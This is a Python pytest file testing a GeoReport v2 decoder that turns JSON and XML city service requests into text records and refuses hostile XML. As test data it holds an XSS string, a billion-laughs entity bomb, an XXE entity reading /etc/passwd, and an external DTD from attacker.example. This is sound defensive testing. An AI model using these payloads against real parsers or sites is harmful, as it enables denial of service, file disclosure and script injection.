"""GeoReport v2 responses decode to records of text; hostile documents are refused by name."""

from __future__ import annotations

import json
from xml.sax.saxutils import escape

import pytest

from mapdesk.core.errors import DataSourceError, WebServiceError
from mapdesk.io.georeport import REQUEST_FIELDS, decode_service_requests, service_error_text

HOSTILE = (
    "<b>Pothole</b><script>alert(`x${1}`)</script> &amp; \"quoted\" 'single' "
    "javascript:void(0) <img src=x onerror=alert(1)> ]]> --> naïve ☃ 🚧\ttab\nnewline"
)

REQUESTS = [
    {
        "service_request_id": "638344",
        "status": "closed",
        "status_notes": "Duplicate request.",
        "service_name": "Sidewalk and Curb Issues",
        "service_code": "006",
        "description": HOSTILE,
        "agency_responsible": "Public Works",
        "requested_datetime": "2010-04-14T06:37:38-08:00",
        "updated_datetime": "2010-04-14T06:37:38-08:00",
        "address": "8TH AVE and JUDAH ST",
        "zipcode": "04101",
        "lat": "43.6591",
        "long": "-70.2568",
        "media_url": "https://example.org/media/638344.jpg",
    },
    {
        "service_request_id": "000123",
        "status": "open",
        "service_name": "Streetlight out",
        "service_code": "011",
        "description": "Light out on Congress St",
        "requested_datetime": "2024-01-02T10:00:00-05:00",
        "zipcode": "04102",
    },
]


def _xml_doc(requests: list[dict[str, str]]) -> bytes:
    parts = []
    for request in requests:
        fields = "".join(f"<{k}>{escape(v)}</{k}>" for k, v in request.items())
        parts.append(f"<request>{fields}</request>")
    return (
        '<?xml version="1.0" encoding="utf-8"?>'
        f"<service_requests>{''.join(parts)}</service_requests>"
    ).encode()


def _json_doc(requests: list[dict[str, str]]) -> bytes:
    return json.dumps(requests, ensure_ascii=False).encode()


def test_json_and_xml_of_the_same_requests_decode_alike():
    from_json = decode_service_requests(_json_doc(REQUESTS), "json", "a.json")
    from_xml = decode_service_requests(_xml_doc(REQUESTS), "xml", "a.xml")

    assert from_json == from_xml
    assert from_json[0]["description"] == HOSTILE
    assert from_json[1]["service_request_id"] == "000123"
    assert all(list(r)[: len(REQUEST_FIELDS)] == list(REQUEST_FIELDS) for r in from_json)
    assert from_json[1]["lat"] is None and from_json[1]["media_url"] is None


def test_every_value_is_text_or_none_and_json_numbers_keep_their_text():
    data = (
        b'[{"service_request_id": 638344, "service_code": 006, "lat": 43.65910,'
        b' "long": -70.2568e0, "zipcode": "04101", "big": 123456789012345678901234567890,'
        b' "flag": true, "empty": "", "nothing": null, "extra": {"a": [1, "b", null, false]}}]'
    )
    (record,) = decode_service_requests(data, "json", "spec-example.json")

    assert record["service_request_id"] == "638344"
    assert record["service_code"] == "006"  # the specification's own invalid JSON number
    assert record["lat"] == "43.65910"
    assert record["long"] == "-70.2568e0"
    assert record["big"] == "123456789012345678901234567890"
    assert record["flag"] == "true"
    assert record["empty"] is None and record["nothing"] is None
    assert record["extra"] == '{"a":[1,"b",null,false]}'
    assert all(type(v) is str or v is None for v in record.values())


def test_leading_zero_digits_inside_strings_are_untouched():
    data = b'[{"description": "call 007, then: 006]", "service_code": 007}]'
    (record,) = decode_service_requests(data, "json", "x.json")
    assert record["description"] == "call 007, then: 006]"
    assert record["service_code"] == "007"


def test_xml_codes_keep_their_leading_zeros_and_namespaces_are_dropped():
    data = (
        b'<service_requests xmlns="urn:x"><request><service_code>006</service_code>'
        b"<zipcode>04101</zipcode><lat></lat><long/></request></service_requests>"
    )
    (record,) = decode_service_requests(data, "xml", "ns.xml")
    assert record["service_code"] == "006" and record["zipcode"] == "04101"
    assert record["lat"] is None and record["long"] is None


def test_control_characters_and_huge_text_are_kept_verbatim():
    huge = "<script>" + "x" * 10_000_000 + "</script>"
    nasty = "bell\x07 nul\x00 esc\x1b del\x7f \u2028 \ud83d"
    data = json.dumps([{"description": huge, "status_notes": nasty}]).encode()
    (record,) = decode_service_requests(data, "json", "big.json")
    assert record["description"] == huge
    assert record["status_notes"] == nasty

    raw = b'[{"description": "raw\x01control\ttab"}]'  # unescaped, as sloppy servers send
    assert decode_service_requests(raw, "json", "raw.json")[0]["description"] == (
        "raw\x01control\ttab"
    )

    xml = _xml_doc([{"description": huge}])
    assert decode_service_requests(xml, "xml", "big.xml")[0]["description"] == huge


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<service_requests><request><description>&lol9;</description></request></service_requests>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<service_requests><request><description>&xxe;</description></request></service_requests>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE service_requests SYSTEM "http://attacker.example/evil.dtd">
<service_requests><request><description>x</description></request></service_requests>"""


def test_billion_laughs_is_refused_with_a_clear_message():
    with pytest.raises(DataSourceError, match=r"^bomb\.xml: refused: .*entit.*billion laughs"):
        decode_service_requests(BILLION_LAUGHS, "xml", "bomb.xml")


def test_external_entities_are_refused_with_a_clear_message():
    with pytest.raises(DataSourceError, match=r"^xxe\.xml: refused: .*external entity") as info:
        decode_service_requests(EXTERNAL_ENTITY, "xml", "xxe.xml")
    assert "root:" not in str(info.value)  # nothing of /etc/passwd was read


def test_an_external_dtd_is_never_fetched():
    # expat does not load external DTDs: the document is read without them.
    (record,) = decode_service_requests(EXTERNAL_DTD, "xml", "dtd.xml")
    assert record["description"] == "x"


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (b'[{"service_request_id": "1",}]', r"not valid GeoReport JSON: .*line 1, column"),
        (b"", r"not valid GeoReport JSON"),
        (b'{"service_request_id": "1"}', r"not a list of service requests \(.*an object"),
        (b'["1", "2"]', r"service request 1 is not a JSON object \(it is a string\)"),
        (b"\xff\xfe[]", r"not UTF-8"),
    ],
)
def test_malformed_json_names_the_source(data, words):
    with pytest.raises(DataSourceError, match=rf"^https://h/requests\.json: .*{words}"):
        decode_service_requests(data, "json", "https://h/requests.json")


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (b"<service_requests><request></service_requests>", r"not well-formed .*line 1"),
        (b"<service_requests><request>\x01</request></service_requests>", r"not well-formed"),
        (b"<html><body>Gateway</body></html>", r"root element is <html>"),
        (b"<service_requests><item/></service_requests>", r"element 1 .* is <item>"),
        (b"", r"not well-formed"),
    ],
)
def test_malformed_xml_names_the_source(data, words):
    with pytest.raises(DataSourceError, match=rf"^requests\.xml: .*{words}"):
        decode_service_requests(data, "xml", "requests.xml")


def test_the_georeport_error_document_is_a_web_service_error():
    xml = (
        b"<?xml version='1.0' encoding='utf-8' ?><errors><error><code>403</code>"
        b"<description>Invalid api_key received -- can't proceed with create_request."
        b"</description></error></errors>"
    )
    with pytest.raises(WebServiceError, match=r"^srv\.xml: .*answered with an error: 403 Invalid"):
        decode_service_requests(xml, "xml", "srv.xml")
    as_json = b'[{"code": 403, "description": "Invalid api_key received"}]'
    with pytest.raises(WebServiceError, match=r"^srv\.json: .*error: 403 Invalid") as info:
        decode_service_requests(as_json, "json", "srv.json")
    assert info.value.status == 403
    assert service_error_text(xml, "xml").startswith("403 Invalid api_key")
    assert service_error_text(b"not xml", "xml") is None


def test_an_empty_list_is_no_requests():
    assert decode_service_requests(b"[]", "json", "e.json") == []
    assert decode_service_requests(b"<service_requests/>", "xml", "e.xml") == []
